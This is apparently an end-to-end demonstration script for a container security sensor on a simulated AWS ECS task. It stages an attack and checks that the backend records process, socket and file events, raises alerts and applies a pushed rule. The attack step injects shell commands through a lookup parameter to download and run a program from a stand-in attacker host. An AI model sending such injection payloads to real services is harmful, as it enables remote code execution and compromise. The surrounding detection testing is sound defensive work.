"""The story that ./run tells: a task on ECS, an attack, and what a backend gets to know of it.

usage: story.py DIR CGROUP [--without-attack]      in namespaces of its own, network among them; DIR/tree is the sensor

Each step looks whether what it tells of did happen; the first that did not ends it, with exit status 1.
"""
import base64
import json
import pathlib
import secrets
import sys
import time
import traceback
import urllib.parse

import agent as ecs_agent
import aws
import task as ecs_task
from world import (ATTACKER, HERE, ROOT, TASK, VPC_ENDPOINT, Attacker, Backend, Failed, Impossible, build_sensor, get, holders_of,
                   is_served, podman_of, prepare_network, run, try_podman, until)

REGION, CLUSTER, SERVICE, SECRET = "eu-central-1", "shop", "web", "ssm:/moonwatch/enroll"
SENSOR = "111122223333.dkr.ecr.eu-central-1.amazonaws.com/moonwatch:0.1.0"
DEFINITION = ROOT / "container/examples/ecs/web.json"
AUTHORITY = "/etc/ssl/company.pem"
OPTIONS = {"config_refresh": 1, "distributed_interval": 1, "logger_tls_period": 1}


def say(text=""):
    print(f"   {text}", flush=True)


class Story:
    def __init__(self, directory, cgroup, is_attacked):
        self.dir, self.moonwatch = directory, directory / "tree/bin/moonwatch"
        self.podman = podman_of(directory)
        self.options = [f"--network=ns:{directory}/network", f"--cgroup-parent=/{cgroup}", f"--hostname=ip-{TASK.replace('.', '-')}",
                        f"--add-host=ssm.{REGION}.amazonaws.com:{VPC_ENDPOINT}"]
        # The company's authority, which images of its own would have.
        self.options.append(f"--volume={directory}/backend/ca.pem:{AUTHORITY}:ro")
        self.is_attacked = is_attacked
        self.checked = []
        self.task = None
        prepare_network((ecs_agent.ADDRESS, TASK, VPC_ENDPOINT, ATTACKER), directory / "network")
        try_podman(self.podman, self.options[:-1])
        self.secret = secrets.token_hex(16)
        self.backend = Backend(directory / "backend", self.secret)
        self.backend.ask("set", config={"options": OPTIONS})
        self.aws = aws.Aws(self.backend.directory, REGION, VPC_ENDPOINT)
        self.attacker = Attacker()
        self.made_from = build_sensor(self.podman, directory, SENSOR)
        run(self.moonwatch, "bundle", "keygen", directory / "release")

    def holds(self, is_so, sentence, *why):
        """A line of the summary; `why` is what there is to know when it is not so."""
        if not is_so:
            raise Failed("\n  ".join(["this is not so: " + sentence, *map(str, why)]))
        self.checked.append(sentence)

    def patch(self):
        """The sensor is put in front of the containers of a task definition"""
        image = self.dir / "image.json"
        image.write_text(run(*self.podman, "image", "inspect", "nginx:1.27"))
        variables = {"MOONWATCH_BACKEND": "fleet", "MOONWATCH_TLS_HOSTNAME": self.backend.hostname,
                     "MOONWATCH_TLS_SERVER_CERTS": AUTHORITY, "MOONWATCH_BUNDLE_KEYS": (self.dir / "release.pub").read_text().strip(),
                     "AWS_CA_BUNDLE": AUTHORITY}
        say(f"moonwatch patch --image=…/moonwatch:0.1.0 --secret={SECRET} --env=… {DEFINITION.relative_to(ROOT)}")
        run(self.moonwatch, "patch", "--offline", f"--image={SENSOR}", f"--secret={SECRET}",
            f"--image-config=nginx:1.27={image}", *(f"--env={name}={value}" for name, value in variables.items()),
            "-o", self.dir / "web.json", DEFINITION)
        self.definition = self.aws.register(json.loads((self.dir / "web.json").read_text()))
        for container in self.definition["containerDefinitions"]:
            say(f"{container['name']:9} {container['image']}: {' '.join(container.get('entryPoint', []) + container['command'])}")
        say("registered as " + self.definition["taskDefinitionArn"])
        self.holds(self.definition["revision"] == 1, "ECS (moto) took the definition that moonwatch patch made, and what it took is what ran")

    def start(self):
        """ECS starts the task: its containers share a network, and each may have the role's credentials from 169.254.170.2"""
        parameter = self.aws.put_secret(SECRET.partition(":")[2], self.secret)
        self.role = self.aws.assume(self.definition["taskRoleArn"], parameter)
        self.aws.check_from_now_on()
        self.agent = ecs_agent.Agent(self.definition, REGION, CLUSTER, SERVICE, TASK)
        self.agent.serve()
        self.task = ecs_task.Task(self.podman, self.definition, self.agent, self.options)
        self.task.role = self.role
        self.task.start()
        code = self.task.end_of("moonwatch")
        say(f"moonwatch ended with {code}: {self.task.log('moonwatch')}")
        mounts = [self.task.state(name, "{{range .Mounts}}{{.Destination}} {{.RW}}, {{end}}") for name in ("web", "api")]
        self.holds(code == 0 and all("/opt/moonwatch false, " in mount for mount in mounts),
                   f"the sensor's container, its image FROM {self.made_from}, ended at once; the others have its volume, read-only", mounts)
        until("an answer of nginx", is_served)
        for name, wanted in (("web", "nginx: master process nginx -g daemon off;"), ("api", "python3 -m gunicorn --bind=127.0.0.1:8000")):
            command, tracer = self.task.process(name)
            say(f"{name}: its first process is {command}")
            self.holds(command.startswith(wanted) and tracer == "/opt/moonwatch/bin/moonwatch",
                       f"{name} runs what its image runs, and the sensor of the volume watches it", command, tracer)

    def enroll(self):
        """Each container enrols as an asset, with the secret from Parameter Store that the task role may read"""
        records = self.backend.wait("two enrolments", count=2, where={"endpoint": "enroll", "accepted": True})
        hosts = {}
        for record in records:
            host = record["body"]["host_details"]["system_info"]
            hosts[host["hostname"]] = record["host"]
            say(f"{host['hostname']}   {host['hardware_vendor']} {host['hardware_model']}, {host['computer_name']}, {record['host']}")
        names = [f"web/{self.agent.task_id}/{name}" for name in ("web", "api")]
        self.holds(sorted(hosts) == sorted(names) and len(set(hosts.values())) == 2,
                   "the backend has two assets, named by family, task and container", hosts)
        answers = self.aws.calls("AmazonSSM.GetParameter", self.role["AccessKeyId"])
        self.holds(answers == [200, 200], "SSM (moto) gave the secret to both, for signatures made with the keys of the task role",
                   self.aws.asked, self.agent.asked)
        holders = holders_of(self.secret)
        self.holds(not holders, "the secret is in the environment of no process", holders)
        self.web, self.api = (hosts[name] for name in names)

    def query(self):
        """The backend asks them"""
        sql = "SELECT container_name, task_family, launch_type, metadata_version FROM ecs_metadata"
        say(sql)
        self.backend.ask("query", queries={"who": sql})
        rows = [record["body"]["queries"]["who"][0]
                for record in self.backend.wait("answers to a query", count=2, where={"endpoint": "write", "accepted": True})]
        for row in rows:
            say("  ".join(row.values()))
        self.holds({row["container_name"] for row in rows} == {"web", "api"}, "both answered a query of the backend", rows)

    def use(self):
        """Ordinary requests"""
        answers = {path: get(path).strip() for path in ("/", "/api/stock")}
        for path, answer in answers.items():
            say(f"GET {path}  ->  {answer}")
        alerts = self.backend.alerts(self.web) + self.backend.alerts(self.api)
        self.holds(answers == {"/": "a shop", "/api/stock": "12 in stock"} and not alerts,
                   "ordinary requests were answered, without an alert", answers, alerts)

    def lookup(self, host):
        say(f"GET /lookup?host={host}")
        answer = get("/lookup", "?" + urllib.parse.urlencode({"host": host}))
        for line in answer.splitlines():
            say(f"  ->  {line}")
        return answer

    def attack(self):
        """An attack: the host name of a request goes on with commands"""
        commands = f"; id; curl -so /tmp/.update http://{ATTACKER}:8080/update; chmod 755 /tmp/.update; /tmp/.update"
        answer = self.lookup("localhost" + (commands if self.is_attacked else ""))
        self.holds("uid=33(www-data)" in answer, "the attack succeeded: programs of the attacker's choice ran in web", answer)
        until("the call of the attacker's program", lambda: self.attacker.callers)

    def events(self):
        """What the backend sees of it"""
        shell = self.backend.row("the shell", self.web, "process_events", cmdline={"match": "sh -c getent hosts localhost; id"})
        program = self.backend.row("the program", self.web, "process_events", cmdline={"match": "/tmp/.update$"}, path={"match": "bash"})
        for row in (shell, program):
            say(f"process {row['pid']}: {row['cmdline'][:100]}")
        self.holds(shell["uid"] == program["uid"] == "33", "process events: the shell, and the program that was fetched, as www-data", shell)
        for port, cmdline in (("8080", "^curl "), ("4444", "/tmp/.update$")):
            row = self.backend.row(f"the connection to {port}", self.web, "socket_events", action="connect", remote_address=ATTACKER,
                                   remote_port=port, cmdline={"match": cmdline})
            say(f"connect to {row['remote_address']}:{row['remote_port']} by {row['cmdline'][:80]}")
        self.holds(True, "socket events: curl's connection to the attacker, and that of the program")
        row = self.backend.row("the file", self.web, "file_events", target_path="/var/www/html/status.php", sha256={"match": "^[0-9a-f]{64}$"})
        say(f"file {row['target_path']}: {row['action']}, category {row['category']}, sha256 {row['sha256'][:16]}…")
        self.holds(row["category"] == "web", "file events: the script that was put among the pages, with its hash", row)

    def alerts(self):
        """Alerts"""
        for rule in ("shell_from_web_server", "dropped_exe_connects", "web_script"):
            self.backend.row(f"an alert of {rule}", self.web, "moonwatch_alerts", rule=rule)
        self.found, others = self.backend.alerts(self.web), self.backend.alerts(self.api)
        for alert in self.found:
            say(f"{alert['severity']:8} {alert['rule']:22} {alert['message'][:100]}")
        rules = {alert["rule"] for alert in self.found}
        # The network is the task's: api, too, sees that there is a connection, and that it is of no process of its own.
        others = [alert for alert in others if alert["pid"]]
        self.holds(not others, f"{len(self.found)} alerts of {len(rules)} rules came from web, none about a process of api", others)

    def push(self):
        """A rule about the attacker's address is written, signed, and pushed by the backend, while all runs on"""
        bundle = self.dir / "rules.mwb"
        run(self.moonwatch, "bundle", "build", HERE / "rules", "-o", bundle, "--version=1.0")
        run(self.moonwatch, "bundle", "sign", bundle, f"--key={self.dir}/release.key")
        before, began = self.backend.last(), time.monotonic()
        pushed = {"version": "1.0", "inline": base64.b64encode(bundle.read_bytes()).decode()}
        self.backend.ask("set", config={"options": OPTIONS, "moonwatch": {"bundle": pushed}})
        for host in (self.web, self.api):
            line = {"hostIdentifier": host, "message": {"match": "the bundle .* 1.0 .* is in force"}}
            told = self.backend.wait("word that the rule is in force", line=line, after=before)[0]
        say(f"{time.monotonic() - began:.1f} s later, from both: {told['message']}")
        self.lookup("localhost; /tmp/.update")
        row = self.backend.row("an alert of the new rule", self.web, "moonwatch_alerts", after=before, rule="known_attacker")
        say(f"{row['severity']:8} {row['rule']:22} {row['message']}")
        earlier = [alert for alert in self.found if alert["rule"] == "known_attacker"]
        self.holds(row["severity"] == "critical" and not earlier,
                   "the rule that was pushed took effect without a restart, and told of the second attack", row, earlier)

    def stop(self):
        """ECS stops the task"""
        for name in ("web", "api"):
            self.task.podman("stop", name)
            code = self.task.end_of(name)
            say(f"{name} ended with {code}")
            self.holds(code == 0, f"{name} got its signal and ended by itself, with 0", self.task.log(name))
        wrong = self.backend.ask("violations")["violations"]
        self.holds(not wrong, "the backend, which is strict with the protocol, has nothing to complain of", json.dumps(wrong, indent=1))

    steps = (patch, start, enroll, query, use, attack, events, alerts, push, stop)


def heading(text):
    bold, normal = ("\033[1m", "\033[0m") if sys.stdout.isatty() else ("", "")
    print(f"\n{bold}{text}{normal}", flush=True)


def main():
    where, story = "before the first step", None
    try:
        story = Story(pathlib.Path(sys.argv[1]).resolve(), sys.argv[2], "--without-attack" not in sys.argv[3:])
        for i, step in enumerate(Story.steps, 1):
            where = f"step {i}, {step.__doc__}"
            heading(f"{i}. {step.__doc__}")
            step(story)
    except Impossible as failure:
        print(f"the demonstration cannot run here: {failure}", file=sys.stderr)
        return 77
    except Failed as failure:
        complaint = str(failure)
    except Exception:  # pylint: disable=broad-except  # whatever it is, it is told
        complaint = traceback.format_exc()
    else:
        heading("What was checked")
        for sentence in story.checked:
            say(f"ok  {sentence}")
        return 0
    print(f"\ndemonstration failed: {where}:\n  {complaint}", file=sys.stderr)
    for name in story.task.started if story and story.task else ():
        print(f"--- log of {name}:\n{story.task.log(name)}", file=sys.stderr)
    return 1


sys.exit(main())
